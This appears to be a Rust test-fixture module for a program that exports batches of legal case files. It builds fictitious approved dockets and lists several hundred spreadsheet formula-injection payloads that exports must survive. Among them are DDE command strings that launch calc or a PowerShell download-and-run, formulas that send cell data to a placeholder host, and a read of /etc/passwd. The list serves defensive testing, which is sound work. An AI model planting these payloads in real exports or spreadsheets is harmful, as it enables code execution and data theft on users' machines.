//! Fictitious batches for the tests of this room, and the payloads that every table must survive.

pub(crate) mod schema;

use crate::casework::check::gate::Passage;
use crate::casework::check::{self, Certificate};
use crate::casework::fixture::{approval, at, charter, history, proposals, seat};
use crate::casework::{
    Batch, BatchNo, BatchRecord, CaseFile, CaseId, Charter, Decided, Deed, Digest, Entry, Frozen, Seq, Shown,
    Standing, Verdict,
};
use crate::filing::{Exported, FilingError, Job, Office, Verification, export, verify_against};
use crate::record::{SourceNo, Text};
use std::convert::Infallible;
use std::path::Path;

/// The stream of hostile text that the tests of the whole program use too.
#[path = "../../tests/it/stream.rs"]
pub(crate) mod stream;

/// What spreadsheets have been made to compute: the OWASP list, advisories and threads, and our own.
pub(crate) const PAYLOADS: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://x\",\"y\")",
    "=HYPERLINK(CONCATENATE(\"http://x/?v=\",A1),\"click\")",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget x/s.exe)'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "=WEBSERVICE(CONCATENATE(\"http://x/\",A2))",
    "=IMPORTXML(CONCAT(\"http://x?l=\",CONCATENATE(A2:E2)),\"//a\")",
    "=IMPORTFEED(CONCAT(\"http://x?v=\",A2))",
    "=IMPORTHTML(\"http://x\",\"table\",1)",
    "=IMPORTRANGE(\"x\",\"S!A1\")",
    "=IMPORTDATA(\"http://x\")",
    "=IMAGE(\"http://x/?v=\"&A1)",
    "='file:///etc/passwd'#$passwd.A1",
    "=INDIRECT(\"A1\")",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "+1+1",
    "+1",
    "+14155550100",
    "++1",
    "+-1+1",
    "+thespanishinquisition(cmd|'/c calc.exe'!A",
    "-2+3",
    "-2+3+cmd|' /C calc'!D2",
    "-cmd|' /C calc'!A0",
    "-1-1",
    "--1",
    "-1e5+1",
    "-A1",
    "-",
    "-(1)",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@",
    "=",
    "+",
    "==1",
    "=-1",
    "=@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=cmd|' /C calc'!A0",
    "\t+1",
    " =1+1",
    "   @SUM(1)",
    "\u{A0}=1+1",
    "\u{3000}=1+1",
    "\"=1+1",
    "\"\"=1+1\"",
    "\" =1+1",
    "`=1+1",
    "“=1+1",
    "«-2+3",
    "\"'=1+1",
    "＝1+1",
    "＝HYPERLINK(\"http://x\",\"y\")",
    "＋1+1",
    "－2+3",
    "＠SUM(1)",
    "−2+3",
    "﹦1",
    "﹢1+1",
    "﹣2+3",
    "﹫SUM(1)",
    " ＝1+1",
    "＂=1+1",
    "\u{200B}=1+1",
    "\u{FEFF}=1+1",
    "\u{202E}=1+1",
    "\u{0}=1+1",
    "\u{1B}=1+1",
    "DOE;=1+1",
    "DOE; =cmd|' /C calc'!A0",
    "a;b;-2+3",
    "DOE;\"=1+1\"",
    "DOE\t=1+1",
    "DOE\n=1+1",
    ";=1+1",
];

/// The list, with what programs and people put around a payload: more than five hundred in all.
pub(crate) fn payloads() -> Vec<String> {
    let wide =
        |payload: &str| payload.replace('=', "＝").replace('+', "＋").replace('-', "－").replace('@', "＠");
    let around = |payload: &str| {
        [
            payload.to_owned(),
            format!("  {payload}"),
            format!("\u{A0}{payload}"),
            format!("\"{payload}\""),
            format!("DOE;{payload}"),
            format!("DOE\t{payload}"),
            format!("'\n{payload}"),
            wide(payload),
        ]
    };
    let mut all: Vec<String> = PAYLOADS.iter().flat_map(|payload| around(payload)).collect();
    all.sort_unstable();
    all.dedup();
    all
}

/// What a spreadsheet does, written down apart from the rule under test: it may cut at a separator of its locale, drop
/// blanks, quotes and what has no shape, fold wide forms, and then computes what begins with a sign.
pub(crate) fn computes(cell: &str) -> bool {
    cell.split([';', '\t', '\r', '\n']).any(|piece| {
        // An apostrophe at the very start is how spreadsheets are told that text follows.
        if piece.starts_with('\'') {
            return false;
        }
        let shown = piece.trim_start_matches(|c: char| {
            c.is_whitespace() || "\"'`´«»‘’‚‛“”„‟＂＇\u{0}\u{200B}\u{FEFF}\u{202E}\u{1B}\u{AD}".contains(c)
        });
        let signed =
            shown.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '−', '﹦', '﹢', '﹣', '﹫']);
        let number = piece.trim().parse::<f64>().is_ok() && !piece.contains(['+', 'e', 'E', 'n', 'N']);
        signed && !number
    })
}

/// A queue's worth of approved cases, frozen in batch 7.
#[derive(Clone, Debug)]
pub(crate) struct Docket {
    pub(crate) charter: Charter,
    pub(crate) batch: BatchRecord,
    pub(crate) cases: Vec<CaseFile>,
    pub(crate) challenges: Vec<CaseFile>,
    pub(crate) certificate: Option<Certificate>,
    pub(crate) office: Office,
}

/// Approves a case as proposed under an entry with the given number, and puts it in batch 7.
pub(crate) fn approve(case: &mut CaseFile, seq: u64) {
    let verdict = approval(case);
    decide(case, seq, verdict);
}

/// Gives a verdict on a case, and puts it in batch 7.
pub(crate) fn decide(case: &mut CaseFile, seq: u64, verdict: Verdict) {
    let entry = Entry {
        erased: None,
        seq: Seq(seq),
        at: at(i64::try_from(seq).unwrap()),
        seat: seat("mlopez"),
        case: Some(case.id),
        shown: Some(Shown::of(case, &charter().policy_digest).unwrap().0),
        policy: charter().policy_digest,
        deed: Deed::Verdict(verdict.clone()),
    };
    let decided = Decided { seq: entry.seq, at: entry.at, seat: entry.seat.clone(), verdict };
    case.standing = Standing { decided: Some(decided), batch: Some(BatchNo(7)) };
    case.entries.push(entry);
}

/// The case of person `number`, undecided: two counts, one to be redesignated and one dismissed and sealed.
pub(crate) fn undecided(number: u64) -> CaseFile {
    let history = history(number, 1);
    CaseFile {
        now: None,
        otherwise: None,
        id: CaseId(number),
        person: history.person,
        proposal: proposals(1).remove(0),
        siblings: vec![CaseId(number)],
        standing: Standing::default(),
        notes: Vec::new(),
        entries: Vec::new(),
        rows: history.rows,
        sources: vec![(SourceNo(1), Text::new("/home/analyst/in/doj.dat"))],
    }
}

/// The case of person `number`, approved.
pub(crate) fn approved(number: u64) -> CaseFile {
    let mut case = undecided(number);
    approve(&mut case, 1000 + number);
    case
}

/// A docket of so many approved cases.
pub(crate) fn docket(cases: u64) -> Docket {
    Docket::of((1..=cases).map(approved).collect())
}

/// What batch 7 fixes of a case that was decided last.
pub(crate) fn frozen(case: &CaseFile) -> Frozen {
    let entry = case.entries.last().unwrap();
    Frozen { case: case.id, verdict: entry.seq, shown: entry.shown.unwrap() }
}

impl Docket {
    /// Freezes cases that are approved.
    pub(crate) fn of(cases: Vec<CaseFile>) -> Self {
        let batch = Batch::freeze(BatchNo(7), at(90_000), Digest::of(b"head"), cases.iter().map(frozen));
        Self {
            charter: charter(),
            batch: BatchRecord::new(batch.unwrap(), Seq(9000), seat("analyst")),
            cases,
            challenges: Vec::new(),
            certificate: None,
            office: Office::standard().unwrap(),
        }
        .certified()
    }

    /// Gives it the certificate of a batch that nothing is known about but that it may go out.
    pub(crate) fn certified(mut self) -> Self {
        let passage = Passage {
            as_of: Seq(9000),
            checks: Vec::new(),
            unmet: Vec::new(),
            uncovered: None,
            presence: None,
        };
        self.certificate = Some(Certificate::of(&self.batch, &check::Docket::default(), &passage, "0.1.0"));
        self
    }

    /// Hands the cases over as a queue does.
    pub(crate) fn stream(&self) -> impl Iterator<Item = Result<CaseFile, Infallible>> {
        self.cases.iter().cloned().map(Ok)
    }

    /// Says what is to be written, by which version.
    pub(crate) fn job<'a>(&'a self, version: &'a str) -> Job<'a> {
        Job {
            charter: &self.charter,
            batch: &self.batch,
            version,
            office: &self.office,
            certificate: self.certificate.as_ref().unwrap(),
        }
    }

    /// Hands the challenged cases over as a queue does.
    pub(crate) fn challenged(&self) -> impl Iterator<Item = Result<CaseFile, Infallible>> {
        self.challenges.iter().cloned().map(Ok)
    }

    /// Checks an export against the batch.
    pub(crate) fn verify(&self, folder: &Path) -> Result<Verification, FilingError> {
        verify_against(
            folder,
            &self.charter,
            &self.batch,
            self.certificate.as_ref(),
            self.stream(),
            self.challenged(),
        )
    }

    /// Writes the batch out, and records it as the ledger would.
    pub(crate) fn export(&mut self, target: &Path) -> Result<Exported, FilingError> {
        let exported = export(target, self.job("0.1.0"), self.stream(), self.challenged())?;
        self.batch.manifest = Some(exported.manifest);
        Ok(exported)
    }
}
